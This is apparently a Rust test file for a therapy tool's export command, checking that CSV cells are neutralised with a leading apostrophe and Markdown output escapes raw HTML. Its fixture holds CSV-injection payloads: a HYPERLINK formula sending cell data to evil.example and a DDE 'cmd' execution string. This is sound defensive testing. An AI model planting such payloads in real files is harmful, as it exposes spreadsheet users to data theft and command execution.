//! Exports are safe to open and complete: no spreadsheet formula or raw HTML from the file, an output path
//! that is not a regular file refused, and everything a therapist needs in every format.

mod common;

use common::Sandbox;

const FORMULAS: &str = r#"version = 1

[[rung]]
id = 1
ask = "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")"
stakes = 20
who = "@SUM(A1:A9)"
tags = ["+cmd|' /C calc'!A0", "work"]

[[rung]]
id = 2
ask = "-5 minutes early, ask <b>Sam</b> & Jo | both"
stakes = 30

[[attempt]]
id = 1
rung = 1
at = 2026-11-20T10:00:00+01:00
note = "=1+1"
"#;

fn csv_rows(s: &Sandbox) -> Vec<csv::StringRecord> {
    let csv = s.ok(&["export", "--format", "csv"]);
    csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect()
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe() {
    let s = Sandbox::with(FORMULAS);
    let rows = csv_rows(&s);
    assert_eq!(&rows[0][1], "'=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")");
    assert_eq!(&rows[0][3], "'@SUM(A1:A9)");
    assert_eq!(&rows[0][4], "'+cmd|' /C calc'!A0; work");
    assert_eq!(&rows[0][11], "'=1+1");
    assert_eq!(&rows[1][1], "'-5 minutes early, ask <b>Sam</b> & Jo | both", "documented: a leading minus too");
    assert_eq!(&rows[0][2], "20", "numbers are left alone");
}

#[test]
fn markdown_escapes_raw_html_and_keeps_the_table_whole() {
    let s = Sandbox::with(FORMULAS);
    let md = s.ok(&["export"]);
    let row = md.lines().find(|l| l.starts_with("| 2 |")).expect("rung 2's row");
    assert_eq!(row, "| 2 | 30 | -5 minutes early, ask &lt;b&gt;Sam&lt;/b&gt; &amp; Jo \\| both |  | 0 | new |");
    assert!(!md.contains("<b>"), "{md}");
}
